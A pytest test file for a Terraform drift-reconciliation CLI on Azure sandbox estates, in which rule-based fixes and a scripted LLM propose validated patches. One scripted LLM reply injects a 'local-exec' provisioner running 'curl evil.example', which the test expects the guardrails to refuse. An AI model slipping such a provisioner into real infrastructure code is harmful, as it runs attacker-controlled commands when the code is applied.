"""`reconcile propose` on drifted estates: rules first, the LLM for the rest, all validated.

Two estates serve the module, each applied once and changed out of band: the VM scenario of the demo
(count, shared variables) and the fleet (for_each, a shared local). Tests that change a workspace or its
state work on a copy of it, so none depends on another having run.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from azure.mgmt.network import NetworkManagementClient
from azure.mgmt.network.models import PublicIPAddress
from openai_server import OpenAIServer
from sandbox_cloud import exported

from providers.azure.sdk import Endpoint
from providers.azure.sdk import client
from providers.azure.sdk import sandbox_credential
from reconciler import scenario
from reconciler.cli import main

VM = "azurerm_linux_virtual_machine.web"
SIZE_LINE = "  size                  = var.vm_size"


class Estate:
    def __init__(self, e: scenario.Estate, root: Path) -> None:
        self.e = e
        self.root = root
        self.ws = e.workspace

    def main(self, *args: str) -> int:
        """The CLI in this process, with this estate's sandbox in the environment for the call only
        (the module's other estate has a sandbox of its own)."""
        with exported(scenario.terraform_env(self.e.sandbox)):
            return main(list(args))

    def propose(self, *args: str, ws: Path | None = None) -> tuple[int, dict[str, Any]]:
        out = self.root / "proposals.json"
        code = self.main("propose", str(ws or self.ws), "--format", "json", "--output", str(out), *args)
        return code, json.loads(out.read_text())

    def copy(self, name: str) -> Path:
        """The workspace and its state, without the store: a scan of the copy is the copy's own."""
        target = self.root / name
        shutil.copytree(self.ws, target, ignore=shutil.ignore_patterns(".reconcile", ".terraform"))
        return target

    def patched(self, patch: Path, name: str) -> Path:
        """A copy of the workspace in git with ``patch`` applied by ``git apply``."""
        copy = self.copy(name)
        subprocess.run(["git", "init", "-q"], cwd=copy, check=True)
        subprocess.run(["git", "apply", str(patch)], cwd=copy, check=True)
        return copy

    def actions(self, ws: Path) -> dict[str, list[str]]:
        plan = self.e.tf.show_plan_json(self.e.tf.plan(ws, out=Path("p.tfplan")).planfile or ws, ws)
        return {c["address"]: c["change"]["actions"] for c in plan["resource_changes"]}

    def fmt_clean(self, ws: Path, files: list[str]) -> bool:
        return self.e.tf.run(["fmt", "-check", "-no-color", *files], ws).rc == 0


@pytest.fixture(scope="module")
def estate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    root = tmp_path_factory.mktemp("propose")
    with scenario.estate(root) as e:
        e.tf.init(e.workspace)
        e.tf.apply(e.workspace)
        scenario.drift(e)
        estate = Estate(e, root)
        assert (
            estate.main("drift", str(e.workspace), "--format", "json", "--output", str(root / "drift.json"))
            == 2
        )
        yield estate


def _by_address(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {p["address"]: p for p in doc["proposals"]}


def test_rules_codify_every_drift_and_the_patch_applies(estate: Estate) -> None:
    code, doc = estate.propose("--no-llm", "--patch", str(estate.root / "fix.patch"))
    assert code == 0, [p["explanation"] for p in doc["proposals"] if not p["valid"]]
    proposals = _by_address(doc)
    disk, nsg = proposals["azurerm_managed_disk.data"], proposals["azurerm_network_security_group.web"]
    assert disk["valid"] and nsg["valid"] and disk["origin"] == "rules"
    assert disk["files"] == ["variables.tf"]  # the value comes from a variable default: edited there
    assert "-  default     = 32\n+  default     = 64\n" in disk["diff"]
    assert '+    name                       = "allow-ssh"' in nsg["diff"]
    steps = ["apply", "parse", "guardrails", "fmt", "validate", "plan", "intent", "policy"]
    assert [s["name"] for s in disk["attempts"][0]["steps"]] == steps
    # One instance of a count drifted: a conditional for that instance, the shared expression kept.
    resized = proposals[f"{VM}[1]"]
    assert resized["valid"]
    assert '+  size                  = count.index == 1 ? "Standard_B2s" : var.vm_size' in resized["diff"]
    assert proposals[f"{VM}[0]"]["valid"]
    # Boot diagnostics off on one instance: a dynamic block without it for that instance only.
    boot = proposals[f"{VM}[2]"]
    assert boot["valid"] and boot["origin"] == "rules"
    assert '+  dynamic "boot_diagnostics" {\n+    for_each = count.index == 2 ? [] : [1]\n' in boot["diff"]

    # The patch applies with git, touches only the drifted lines, and then plans every drifted resource no-op.
    copy = estate.patched(estate.root / "fix.patch", "patched")
    for name in ("outputs.tf", "versions.tf", "terraform.tfvars"):
        assert (copy / name).read_bytes() == (estate.ws / name).read_bytes()
    assert estate.fmt_clean(copy, ["main.tf", "variables.tf"])
    actions = estate.actions(copy)
    for address in ("azurerm_managed_disk.data", "azurerm_network_security_group.web", *proposals):
        assert actions[address] == ["no-op"], address

    # Applying the codified proposals (state takes in the live values) leaves no drift.
    estate.e.tf.apply(copy, extra_args=tuple(f"-target={address}" for address in proposals))
    report = estate.root / "after.json"
    assert estate.main("drift", str(copy), "--format", "json", "--output", str(report), "--no-store") == 0
    assert json.loads(report.read_text())["drifts"] == []


def test_revert_plans_exactly_the_reverting_changes(estate: Estate) -> None:
    code, doc = estate.propose("--strategy", "revert")
    assert code == 0
    proposals = _by_address(doc)
    assert set(proposals) == {f"{VM}[0]", f"{VM}[1]", f"{VM}[2]", "azurerm_managed_disk.data",
                              "azurerm_network_security_group.web"}  # fmt: skip
    for address, p in proposals.items():
        assert p["valid"] and p["diff"] == ""
        assert p["plan"][address] == ["update"]
    size = next(a for a in proposals[f"{VM}[1]"]["advisories"] if a["kind"] == "cost")
    assert "Standard_B2s → Standard_B1s" in size["message"]
    shrink = next(a for a in proposals["azurerm_managed_disk.data"]["advisories"] if a["kind"] == "cost")
    assert "Azure refuses" in shrink["message"]


def test_the_llm_gets_what_rules_decline_and_only_validated_answers_pass(
    estate: Estate, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Written as a dynamic block already, the boot diagnostics of one instance are beyond the rules.
    ws = estate.copy("llm")
    literal = (
        "  boot_diagnostics {\n"
        "    storage_account_uri = azurerm_storage_account.diagnostics.primary_blob_endpoint\n"
        "  }"
    )
    block = (
        '  dynamic "boot_diagnostics" {\n'
        "    for_each = [1]\n"
        "    content {\n"
        "      storage_account_uri = azurerm_storage_account.diagnostics.primary_blob_endpoint\n"
        "    }\n"
        "  }"
    )
    (ws / "main.tf").write_text((ws / "main.tf").read_text().replace(literal, block))
    per_instance = block.replace("for_each = [1]", "for_each = count.index == 2 ? [] : [1]")
    provisioner = '\n\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }'
    replies = [
        {
            "strategy": "codify",
            "edits": [{"file": "main.tf", "find": block, "replace": per_instance + provisioner}],
            "explanation": "no boot diagnostics on instance 2",
        },
        {
            "strategy": "codify",
            "edits": [{"file": "main.tf", "find": block, "replace": ""}],
            "explanation": "no boot diagnostics",
        },
        {
            "strategy": "codify",
            "edits": [{"file": "main.tf", "find": block, "replace": per_instance}],
            "explanation": "no boot diagnostics on instance 2",
        },
    ]
    with OpenAIServer(replies) as llm:
        monkeypatch.setenv("RECONCILE_LLM_BASE_URL", llm.base_url)
        monkeypatch.setenv("RECONCILE_LLM_MODEL", "scripted")
        monkeypatch.setenv("RECONCILE_LLM_API_KEY", llm.api_key)
        _, doc = estate.propose(ws=ws)
        bodies = llm.bodies()
    assert len(bodies) == 3  # only what the rules declined reached the LLM
    proposal = _by_address(doc)[f"{VM}[2]"]
    assert proposal["valid"] and proposal["origin"] == "llm"
    declined = proposal["attempts"][0]["steps"][0]["detail"]
    assert declined == f"{VM}[2].boot_diagnostics is written as a dynamic block"
    hostile_try, wrong_try, right_try = proposal["attempts"][1:]
    [refused] = [s for s in hostile_try["steps"] if not s["ok"]]
    # Refused on its text, before any Terraform process saw it.
    assert refused["name"] == "guardrails" and "static.provisioner" in refused["detail"]
    assert [s["name"] for s in hostile_try["steps"]] == ["apply", "parse", "guardrails"]
    [off_target] = [s for s in wrong_try["steps"] if not s["ok"]]
    assert off_target["name"] == "intent" and f"{VM}[0]" in off_target["detail"]
    assert right_try["ok"]
    assert "count.index == 2 ? [] : [1]" in proposal["diff"] and "local-exec" not in proposal["diff"]
    # What failed was fed back: the request for the third answer carries the intent failure.
    assert "a proposal changes only its resource" in bodies[2]


def test_a_stale_scan_is_refused(estate: Estate, capsys: pytest.CaptureFixture[str]) -> None:
    ws = estate.copy("stale")
    assert estate.main("drift", str(ws), "--format", "json", "--output", str(estate.root / "stale.json")) == 2
    estate.e.tf.apply(ws, extra_args=("-refresh-only",))  # the state's serial moves on
    capsys.readouterr()
    assert estate.main("propose", str(ws), "--no-llm") == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "is stale" in err[0] and "run 'reconcile drift' again" in err[0]


# -- the fleet: for_each, a shared local, an unmanaged resource ---------------------------------------

FLEET_VM = "azurerm_linux_virtual_machine.vm"


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    root = tmp_path_factory.mktemp("fleet")
    with scenario.estate(root, example=scenario.FLEET) as e:
        e.tf.apply(e.workspace)
        scenario.fleet_drift(e)
        # A public IP made by a script, never in the code: an import for it.
        script = Endpoint(e.sandbox.url, e.subscription, sandbox_credential(appid="hotfix-script"))
        client(NetworkManagementClient, script).public_ip_addresses.begin_create_or_update(
            "fleet-rg",
            "fleet-hotfix",
            PublicIPAddress({"location": "westeurope", "sku": {"name": "Standard"}}),
        ).result()
        estate = Estate(e, root)
        assert (
            estate.main("drift", str(e.workspace), "--format", "json", "--output", str(root / "drift.json"))
            == 2
        )
        yield estate


def test_a_for_each_fleet_and_a_shared_local_are_codified_per_resource(fleet: Estate) -> None:
    patch = fleet.root / "fleet.patch"
    code, doc = fleet.propose("--no-llm", "--patch", str(patch))
    assert code == 0, [p["explanation"] for p in doc["proposals"] if not p["valid"]]
    proposals = _by_address(doc)
    # One VM resized: its own size in front of the shared variable; terraform.tfvars is not touched.
    resized = proposals[f'{FLEET_VM}["web"]']
    assert resized["files"] == ["main.tf"]
    assert [
        line for line in resized["diff"].splitlines() if line[:1] in "+-" and line[:3] not in "+++---"
    ] == [
        "-  size                  = var.vm_size",
        '+  size                  = each.key == "web" ? "Standard_B2s" : var.vm_size',
    ]
    # A tag on the network, which reads the local every resource reads: merged on the network alone.
    tagged = proposals["azurerm_virtual_network.main"]
    assert '+  tags                = merge(local.tags, { "cost-center" = "42" })' in tagged["diff"]
    # Boot diagnostics off on one VM: a dynamic block without them for that VM.
    boot = proposals[f'{FLEET_VM}["worker"]']
    assert '+    for_each = each.key == "worker" ? [] : [1]' in boot["diff"]
    # The script's public IP is imported with references to the group that holds it.
    [imported] = [p for p in doc["proposals"] if p["drift_kind"] == "unmanaged"]
    assert imported["valid"] and imported["files"] == ["imported.tf"]
    assert "+  location            = azurerm_resource_group.main.location\n" in imported["diff"]
    assert "+  resource_group_name = azurerm_resource_group.main.name\n" in imported["diff"]

    copy = fleet.patched(patch, "fleet-patched")
    for name in ("terraform.tfvars", "variables.tf", "outputs.tf", "versions.tf"):
        assert (copy / name).read_bytes() == (fleet.ws / name).read_bytes()
    assert fleet.fmt_clean(copy, ["main.tf", "imported.tf"])
    actions = fleet.actions(copy)
    hotfix = "azurerm_public_ip.fleet_hotfix"
    assert actions.pop(hotfix) == ["no-op"]  # imported, nothing to change
    assert {a for a, act in actions.items() if act != ["no-op"]} == set()
    assert f'{FLEET_VM}["api"]' in actions and "azurerm_resource_group.main" in actions
